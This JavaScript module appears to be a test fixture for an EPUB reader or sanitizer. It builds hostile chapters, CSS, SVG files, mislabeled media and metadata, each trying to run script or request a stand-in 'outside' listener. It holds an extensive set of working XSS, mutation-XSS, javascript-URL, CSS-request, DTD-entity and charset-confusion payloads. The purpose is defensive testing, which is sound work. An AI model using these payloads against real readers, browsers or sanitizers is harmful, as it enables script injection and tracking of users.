// Chapters, styles, drawings and names that try to run a script or to ask for something outside
// their book. `outside` is the address of a listener that nothing may call.

const xhtml = 'xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"';
const svgNs = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

/** A well-formed chapter. */
const page = (body, head = "", root = "") =>
  `<?xml version="1.0" encoding="utf-8"?><html ${xhtml} ${root}><head><title>t</title>${head}</head><body>${body}</body></html>`;

/** [name, chapter] pairs; a chapter is text or bytes. */
export function chapters(outside) {
  const run = (name) => `window.ran='${name}';new Image().src='${outside}/ran/${name}'`;
  const img = (name) => `<img src="x:" onerror="${run(name)}"/>`;
  const far = (name) => `${outside}/asked/${name}`;
  const esc = (text) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
  const body = {
    script: `<script>${run("script")}</script>`,
    "script-case": `<SCRIPT>${run("script-case")}</SCRIPT><ScRiPt src="${far("script-case")}"></ScRiPt>`,
    "script-prefix": `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${run("script-prefix")}</h:script><svg:script xmlns:svg="http://www.w3.org/2000/svg">${run("script-prefix")}</svg:script>`,
    "script-nested": `<scr<script></script>ipt>${run("script-nested")}</script>`,
    handlers: `<p onclick="${run("handlers")}" onmouseover="${run("handlers")}" ONFOCUS="${run("handlers")}" tabindex="0" autofocus="">${img("handlers")}<details open="" ontoggle="${run("handlers")}"><summary>s</summary></details></p>`,
    "handlers-slashes": `<img/src="x:"/onerror=${run("handlers-slashes")}><svg/onload=${run("handlers-slashes")}>`,
    "handlers-quotes": `<img title="a"onerror="${run("handlers-quotes")}"src="x:"><img title='"' src=x: onerror='${run("handlers-quotes").replaceAll("'", '"')}'>`,
    "handlers-prefix": `<x:img xmlns:x="http://www.w3.org/1999/xhtml" x:src="x:" x:onerror="${run("handlers-prefix")}" onerror="${run("handlers-prefix")}" src="x:"/>`,
    "handlers-twice": `<img src="x:" alt="a" alt='" onerror="${run("handlers-twice").replaceAll("'", "`")}"'/>`,
    "attribute-names": `<p a"b="1" x/onclick="${run("attribute-names")}" <b="2">x</p><p =onclick="${run("attribute-names")}">y</p>`,
    "namespace-value": `<p xmlns:a='"&gt;&lt;img src=x: onerror=${run("namespace-value").replaceAll("'", "`")}&gt;' title='"&gt;${esc(img("namespace-value")).replaceAll("'", "`")}'>x</p>`,
    javascript: ["javascript:", "JaVaScRiPt:", "java&#9;script:", "java&#10;script:", " &#1;javascript:", "&#xFEFF;javascript:", "javascript&colon;", "vbscript:", "data:text/html,<script>".replace("<", "&lt;"), "view-source:javascript:", "blob:", "filesystem:", "feed:javascript:"]
      .map((scheme) => `<a href="${scheme}${run("javascript")}">x</a>`)
      .join(""),
    "javascript-svg": `<svg ${svgNs}><a xlink:href="javascript:${run("javascript-svg")}"><text>x</text></a><a href="java&#x0A;script:${run("javascript-svg")}"><rect/></a></svg><math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:1" xlink:href="javascript:1"><mi href="javascript:1">x</mi></math>`,
    "javascript-animated": `<svg ${svgNs}><a id="l"><animate attributeName="href" values="javascript:${run("javascript-animated")}"/><set attributeName="xlink:href" to="javascript:1"/><text>x</text></a><animate href="#l" attributeName="href" to="javascript:1"/><animate onbegin="${run("javascript-animated")}" attributeName="x" dur="1s"/></svg>`,
    "xml-base": `<div xml:base="javascript:"><a href="${run("xml-base")}">x</a></div><div xml:base="${outside}/asked/"><img src="xml-base"/></div>`,
    frames: `<iframe src="${far("frames")}"></iframe><iframe srcdoc="&lt;script>${run("frames")}&lt;/script>"></iframe><frameset><frame src="${far("frames")}"/></frameset><portal src="${far("frames")}"/><fencedframe/>`,
    objects: `<object data="${far("objects")}"><embed src="${far("objects")}"/></object><applet code="x" archive="${far("objects")}"/><object type="text/html" data="data:text/html,&lt;script>1&lt;/script>"/>`,
    forms: `<form action="${far("forms")}"><input type="image" src="${far("forms")}"/><button formaction="javascript:${run("forms")}">x</button><isindex action="javascript:1" type="image"/></form>`,
    media: `<video poster="${far("media")}" src="${far("media")}" autoplay=""><source src="${far("media")}"/><track default="" src="${far("media")}"/></video><audio src="//${outside.slice(7)}/asked/media" autoplay=""></audio><bgsound src="${far("media")}"/>`,
    images: [far("images"), far("images").slice(5), far("images").replace("//", "/"), far("images").replace("//", "\\\\"), `\\\\${outside.slice(7)}/asked/images`, `/\\${outside.slice(7)}/asked/images`, `&#9;//${outside.slice(7)}/asked/images`, `///${outside.slice(7)}/asked/images`]
      .map((src) => `<img src="${src}" lowsrc="${src}" dynsrc="${src}" longdesc="${src}"/><image src="${src}"/><input type="image" src="${src}"/>`)
      .join(""),
    srcset: `<img srcset="${far("srcset")} 1x, a 2x" imagesrcset="${far("srcset")}"/><picture><source srcset="data:,x 1x, ${far("srcset")} 2x"/><img src="x.png" srcset="x.png,${far("srcset")}"/></picture>`,
    backgrounds: `<table background="${far("backgrounds")}"><tr><td background="${far("backgrounds")}">x</td></tr></table><p cite="${far("backgrounds")}"/>`,
    ping: `<a href="#x" ping="${far("ping")}" target="_top" download="x">x</a><a href="http://[" rel="opener">y</a>`,
    "data-images": `<img src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg'>&lt;image href='${far("data-images")}'/>&lt;/svg>"/><img src="data:text/html;base64,PHNjcmlwdD4="/>`,
    "svg-asks": `<svg ${svgNs}><image href="${far("svg-asks")}" xlink:href="${far("svg-asks")}"/><use href="${far("svg-asks")}#a"/><use href="data:image/svg+xml,x#a"/><feImage href="${far("svg-asks")}"/><pattern href="${far("svg-asks")}#p"/><rect fill="url(${far("svg-asks")}#a)" filter="url('${far("svg-asks")}#b')" style="mask:url(${far("svg-asks")}#c)"/><text cursor="url(${far("svg-asks")})">x</text><script href="${far("svg-asks")}"/><handler>1</handler></svg>`,
    "svg-foreign": `<svg ${svgNs}><foreignObject><body ${xhtml}><script>${run("svg-foreign")}</script>${img("svg-foreign")}</body></foreignObject><desc><script>${run("svg-foreign")}</script></desc><title><img src="x:" onerror="${run("svg-foreign")}"/></title></svg>`,
    // Markup that reads differently the second time (mutation XSS).
    "mxss-style": `<svg ${svgNs}><p/><style><a id="&lt;/style>${esc(img("mxss-style"))}"/></style></svg>`,
    "mxss-math": `<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><table><mglyph><style><!--</style><img title="--&gt;${esc(img("mxss-math"))}"/></mglyph></table></mtext></math>`,
    "mxss-form": `<form><math><mtext></form><form><mglyph><style></math>${img("mxss-form")}`,
    "mxss-annotation": `<math xmlns="http://www.w3.org/1998/Math/MathML"><annotation-xml encoding="text/html"><style><img title="&lt;/style>${esc(img("mxss-annotation"))}"/></style></annotation-xml><semantics><annotation-xml encoding="application/xhtml+xml">${img("mxss-annotation")}</annotation-xml></semantics></math>`,
    "mxss-raw": ["noscript", "noembed", "noframes", "xmp", "textarea", "title", "iframe", "template", "plaintext", "listing"]
      .map((name) => `<${name}><p title="&lt;/${name}>${esc(img("mxss-raw"))}">x</p></${name}>`)
      .join(""),
    "mxss-select": `<select><option><style></option></select>${img("mxss-select")}</style></select>`,
    "mxss-title": `<svg ${svgNs}><title><style><img title="&lt;/style>${esc(img("mxss-title"))}"/></style></title><desc><xmp><p title="&lt;/xmp>${esc(img("mxss-title"))}"/></xmp></desc></svg>`,
    "mxss-comment": `<!--><img src="x:" onerror="${run("mxss-comment")}"/>--><!-- --!><img src="x:" onerror="${run("mxss-comment")}"/> --><!a><?x ><img src="x:" onerror="${run("mxss-comment")}"/> ?>`,
    cdata: `<p><![CDATA[<script>${run("cdata")}</script>]]></p><svg ${svgNs}><style><![CDATA[</style>${img("cdata")}]]></style><text><![CDATA[</svg>${img("cdata")}]]></text></svg><style><![CDATA[</style>${img("cdata")}<style>]]></style>`,
    entities: `<p>&lt;script&gt;${run("entities")}&lt;/script&gt;&amp;lt;img src=x: onerror=${run("entities")}&amp;gt;&#x3c;script&#x3e;&#60;/script&#62;</p>`,
    clobber: `<img name="body" id="body"/><a id="querySelectorAll" name="querySelectorAll">x</a><p id="ran">x</p>`,
    "epub-switch": `<epub:switch><epub:case required-namespace="http://www.w3.org/2000/svg"><script>${run("epub-switch")}</script></epub:case><epub:default>${img("epub-switch")}</epub:default></epub:switch><epub:trigger action="show" ref="x"/>`,
    "huge-attribute": `<p title="${"x".repeat(300_000)}" onclick="${run("huge-attribute")}" class="${"y ".repeat(50_000)}">x</p>`,
    "many-attributes": `<p ${Array.from({ length: 3000 }, (_, n) => `a${n}="1"`).join(" ")} onclick="${run("many-attributes")}">x</p>`,
    shadow: `<div><template shadowrootmode="open"><script>${run("shadow")}</script>${img("shadow")}</template></div><p is="x-y" slot="z" nonce="n" popover="">x</p>`,
  };
  const css = styles(outside);
  const whole = {
    "meta-refresh": page("x", `<meta http-equiv="refresh" content="0;url=${far("meta-refresh")}"/><meta http-equiv="refresh" content="0;url=javascript:${run("meta-refresh")}"/><meta http-equiv="set-cookie" content="a=b"/>`),
    base: page('<img src="base"/><a href="x">x</a>', `<base href="${outside}/asked/"/>`),
    links: page("x", ["stylesheet", "preload", "prefetch", "dns-prefetch", "preconnect", "prerender", "modulepreload", "icon", "import", "manifest", "alternate stylesheet"].map((rel) => `<link rel="${rel}" as="image" href="${far("links")}"/>`).join("")),
    "root-attributes": page("x", "", `onload="${run("root-attributes")}" manifest="${far("root-attributes")}" style="background:url(${far("root-attributes")})"`).replace("<body>", `<body onload="${run("root-attributes")}" background="${far("root-attributes")}" onpageshow="${run("root-attributes")}">`),
    "xml-stylesheet": `<?xml version="1.0"?><?xml-stylesheet href="${far("xml-stylesheet")}" type="text/css"?><?xml-stylesheet href="${far("xml-stylesheet")}" type="text/xsl"?>${page("x").slice(38)}`,
    "dtd-entity": `<!DOCTYPE html [<!ENTITY x "<script>${run("dtd-entity")}</script>"><!ENTITY y SYSTEM "${far("dtd-entity")}"><!ENTITY % z SYSTEM "${far("dtd-entity")}">%z;]><html ${xhtml}><head><title>t</title></head><body>&x;&y;</body></html>`,
    "dtd-outside": `<!DOCTYPE html SYSTEM "${far("dtd-outside")}">${page("x").slice(38)}`,
    "utf-16": Buffer.from(`\uFEFF${page(body.script.replaceAll("script'", "utf-16'"))}`.replace("utf-8", "utf-16"), "utf16le"),
    "utf-7": page(`+ADw-script+AD4-${run("utf-7")}+ADw-/script+AD4-`, '<meta charset="utf-7"/>').replace('encoding="utf-8"', 'encoding="utf-7"'),
    "iso-2022": Buffer.from(page(`<p title="\x1b$B" alt="${esc(img("iso-2022"))}">\x1b(B</p><p>\x1b(J\\</p>`).replace("utf-8", "iso-2022-jp"), "latin1"),
    gbk: Buffer.from(page(`<p title="\x81">x</p><p title=" onclick=${run("gbk").replaceAll("'", "`")} ">y</p>`).replace("utf-8", "gbk"), "latin1"),
    overlong: Buffer.from(page(`\xC0\xBCscript\xC0\xBE${run("overlong")}\xC0\xBC/script\xC0\xBE<p title="\xE0">x" onclick="${run("overlong")}"></p>`), "latin1"),
    nul: page(`<scr\0ipt>${run("nul")}</scr\0ipt><img src="x:" on\0error="${run("nul")}"><a href="java\0script:${run("nul")}">x</a>`),
    polyglot: `GIF89a/*${page(`*/=1;${run("polyglot")}/*<script>${run("polyglot")}</script>`)}`,
    "after-html": `${page("x")}<script xmlns="http://www.w3.org/1999/xhtml">${run("after-html")}</script>${img("after-html")}`,
    "not-xml": `<!doctype html><title></title><body>${img("not-xml")}<table><script>${run("not-xml")}</script><td>x<svg><script>${run("not-xml")}</script>`,
    "frame-root": `<html ${xhtml}><head><title>t</title></head><frameset onload="${run("frame-root")}"><frame src="javascript:${run("frame-root")}"/></frameset></html>`,
    "title-breaks-out": page("x").replace("<title>t", `<title>&lt;/title>&lt;script>${run("title-breaks-out")}&lt;/script>`),
    "style-element": page(`<p class="a">x</p><style>${esc(css)}</style>`, `<style>${esc(css)}</style><style media="screen{}*{background:url(${far("style-element")})}@media x">p{}</style>`),
    "style-link": page('<p class="a">x</p>', '<link rel="stylesheet" href="evil.css"/><link rel="stylesheet" href="odd &quot;&gt;&lt;img name.css"/>'),
    "style-attribute": page(`<p class="a">${declarations(outside).map((text) => `<i style="${esc(text)}">x</i><i style='${esc(text).replaceAll("'", "&apos;")}'>x</i>`).join("")}</p>`),
    "style-attribute-html": `<html><body>${declarations(outside).map((text) => `<i style="${esc(text)}">x`).join("")}`,
    "paint-attribute": page(`<svg ${svgNs}>${declarations(outside).map((text) => `<rect width="9" height="9" fill="${esc(text.split(/:(.*)/s)[1] ?? text)}"/>`).join("")}</svg>`),
    drawings: page('<img src="evil.svg"/><object data="evil.svg"/><svg xmlns="http://www.w3.org/2000/svg"><image href="evil.svg" width="9" height="9"/></svg><a href="evil.svg">x</a><a href="fake.png">y</a><a href="evil.js">z</a><img src="fake.png"/>'),
  };
  return [...Object.entries(body).map(([name, text]) => [name, page(text)]), ...Object.entries(whole)];
}

/** Declarations that a careless rewriter turns into requests. */
function declarations(outside) {
  const far = `${outside}/asked/css`;
  const bare = far.slice(5);
  return [
    `background:url(${far})`, `background:url("${far}")`, `background:u\\72l(${far})`, `background:URL( '${bare}' )`, `background:url(\\68ttp:${bare})`,
    `background:image-set("${far}" 1x)`, `background:-webkit-image-set(url(${far}) 1x)`, `background:image("${far}")`, `background:cross-fade(url(${far}),red)`,
    `background:ur)l(${bare})`, `background:ur]l(${bare})`, `background:ur}l(${bare})`, `background:ur<!--l(${bare})`, `background:ur-->l(${bare})`, `background:ur@charset 'x';l(${bare})`, `background:ur@import 'x';l(${bare})`, `background:ur\fl(${bare})`, `background:ur\u{1}l(${bare})`, `background:ur\u{7F}l(${bare})`, `background:ur\u{FFFF}l(${bare})`, `background:ur\u{AD}l(${bare})`,
    `a:/)* '*/;background:url(${far});/*'`, `a:/behavior:x;* '*/;background:url(${far});/*'`, `--a:url(${far});background:var(--a)`, `--a:"${far}";background:image-set(var(--a) 1x)`,
    `cursor:url(${far}),auto`, `list-style:url(${far})`, `content:url(${far})`, `border-image:url(${far}) 1`, `mask:url(${far}#a)`, `filter:url(${far}#a)`, `shape-outside:url(${far})`, `offset-path:url(${far}#a)`,
    `behavior:url(${far})`, `-moz-binding:url(${far})`, `width:expression(ran=1)`, `background:url(javascript:1)`, `background:attr(title url)`, `background:image-set(attr(title) 1x)`, `background:src("${far}")`,
    `background:url(data:image/svg+xml,<svg/onload=1>)`, `background:url(${far}`, `background:url("${far}`, `x:"\\\n";background:url(${far})`, `background:"\n;background:url(${far})`, `x:\\`,
  ];
}

function styles(outside) {
  const far = `${outside}/asked/css`;
  const imports = ["@import ", "@\\69mport ", "@im)port ", "@im<!--port ", "@charset 'x';@import ", "@IMPORT/**/"];
  return [
    ...imports.flatMap((start) => [`${start}"${far}";`, `${start}url(${far});`]),
    `@import "${far}" layer(x) supports(display:block) screen;@namespace url(${far});@font-face{font-family:f;src:url(${far}),local("x"),src("${far}")}.a{font-family:f}`,
    `@import "evil2.css";@font-face{font-family:g;src:url(${far}) format("woff2")}p{font-family:g}@property --x{syntax:"<url>";inherits:true;initial-value:url(${far})}p{background:var(--x)}`,
    ...declarations(outside).map((text) => `.a{${text}}\n.a i,p::before{${text};content:"x"}}\n`),
    "@media screen{.a{b:c(\\",
  ].join("\n");
}

/** The other files: [name, media type, content]. */
export function files(outside) {
  const run = (name) => `window.ran='${name}';new Image().src='${outside}/ran/${name}'`;
  const far = `${outside}/asked/file`;
  const css = styles(outside);
  const drawing = `<?xml version="1.0"?><?xml-stylesheet href="${far}" type="text/css"?><?xml-stylesheet href="${far}" type="text/xsl"?><!DOCTYPE svg [<!ENTITY e "<script>${run("svg-entity")}</script>">]><svg ${svgNs} onload="${run("svg-file")}" width="9" height="9">&e;<script>${run("svg-file")}</script><style>@import "${far}";</style><style><![CDATA[${css}]]></style><style>${css.replaceAll("&", "&amp;").replaceAll("<", "&lt;")}</style><image href="${far}"/><use href="${far}#a"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${far}"/></foreignObject><a href="javascript:${run("svg-file")}"><rect class="a" width="9" height="9" style="fill:url(${far})"/></a><set attributeName="onclick" to="1"/><handler xmlns="http://www.w3.org/2001/xml-events">1</handler></svg>`;
  const html = `<!doctype html><script>${run("fake")}</script>`;
  return [
    ["evil.css", "text/css", css],
    ["evil2.css", "text/css", `l(${far.slice(5)})}${css}`],
    ['odd "><img name.css', "text/css", css],
    ["evil.svg", "image/svg+xml", drawing],
    ["bare.svg", "image/svg+xml", `<svg ${svgNs}><script>${run("svg-bare")}<rect onclick=1></svg><body onload="${run("svg-bare")}">`],
    ["fake.png", "image/png", html],
    ["fake.html", "image/jpeg", html],
    ["evil.js", "text/javascript", run("js")],
    ["evil.xsl", "text/xml", html],
    ["fake.woff2", "font/woff2", html],
    ["fake.mp3", "audio/mpeg", html],
    ["t.vtt", "text/vtt", `WEBVTT\n\nSTYLE\n::cue{background:url(${far})}\n\n00:00.000 --> 00:09.000\n<script>${run("vtt")}</script>`],
  ];
}

/** Metadata and contents that want to be markup. */
export function names(outside) {
  const mark = `&lt;/text>&lt;script>window.ran='metadata';new Image().src='${outside}/ran/metadata'&lt;/script>&lt;img src=x: onerror=1>&quot;'\u202E`;
  return { title: mark, creator: mark, description: `${mark}&lt;style>*{background:url(${outside}/asked/metadata)}&lt;/style>`, label: mark };
}
